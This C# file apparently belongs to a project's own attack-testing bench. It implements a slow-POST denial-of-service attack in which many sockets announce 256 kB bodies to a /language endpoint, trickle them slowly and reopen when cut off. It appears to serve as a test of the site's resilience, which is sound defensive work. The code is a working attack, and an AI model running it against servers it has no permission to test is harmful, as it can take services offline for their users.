using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Juluo.Attack.Bench;

/// <summary>
/// One client without an account and with many sockets, each of which announces 256 kB and sends them slowly; a socket that is
/// answered or cut off is opened again a second later. This used to stop the whole site, when a body was read within the transaction.
/// </summary>
internal sealed class SlowBodies : IAsyncDisposable
{
    private const int Length = 256 * 1024;

    // As slow as Kestrel itself allows: 240 bytes a second after a grace period of five seconds.
    private static readonly byte[] Drop = Encoding.ASCII.GetBytes(new string(' ', 25));
    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(100);

    private static readonly TimeSpan Rest = TimeSpan.FromSeconds(1);

    private readonly CancellationTokenSource ended = new();
    private readonly Task[] sockets;
    private readonly ConcurrentDictionary<string, int> answers = new(StringComparer.Ordinal);

    /// <param name="from">The addresses of the sockets; null to use one for all.</param>
    public SlowBodies(Uri site, int count, Func<int, IPAddress>? from = null) =>
        sockets = [.. Enumerable.Range(0, count).Select(n => Hold(site, from?.Invoke(n) ?? IPAddress.Loopback))];

    /// <summary>The first lines of the answers, with their number.</summary>
    public IEnumerable<(string Line, int Times)> Answers => answers.Select(a => (a.Key, a.Value)).OrderByDescending(a => a.Value);

    public async ValueTask DisposeAsync()
    {
        await ended.CancelAsync();
        await Task.WhenAll(sockets);
        ended.Dispose();
    }

    private async Task Hold(Uri site, IPAddress from)
    {
        while (!ended.IsCancellationRequested)
        {
            try
            {
                await Task.Delay(Rest, ended.Token);
                answers.AddOrUpdate(await Trickle(site, from), 1, (_, times) => times + 1);
            }
            catch (Exception e) when (e is IOException or SocketException)
            {
                answers.AddOrUpdate("cut off without an answer", 1, (_, times) => times + 1);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }

    private async Task<string> Trickle(Uri site, IPAddress from)
    {
        using var tcp = new TcpClient(new IPEndPoint(from, 0)) { NoDelay = true };
        await tcp.ConnectAsync(site.Host, site.Port, ended.Token);
        var stream = tcp.GetStream();
        await stream.WriteAsync(
            Encoding.ASCII.GetBytes(
                $"POST /language HTTP/1.1\r\nHost: {site.Authority}\r\nContent-Type: application/json\r\nContent-Length: {Length}\r\n\r\n"
            ),
            ended.Token
        );
        var answer = new byte[4096];
        var answered = stream.ReadAsync(answer, ended.Token).AsTask();
        while (await Task.WhenAny(answered, Task.Delay(Pause, ended.Token)) != answered)
        {
            ended.Token.ThrowIfCancellationRequested();
            await stream.WriteAsync(Drop, ended.Token);
        }

        return Encoding.ASCII.GetString(answer, 0, await answered).Split('\r')[0] is { Length: > 0 } line
            ? line
            : "cut off without an answer";
    }
}
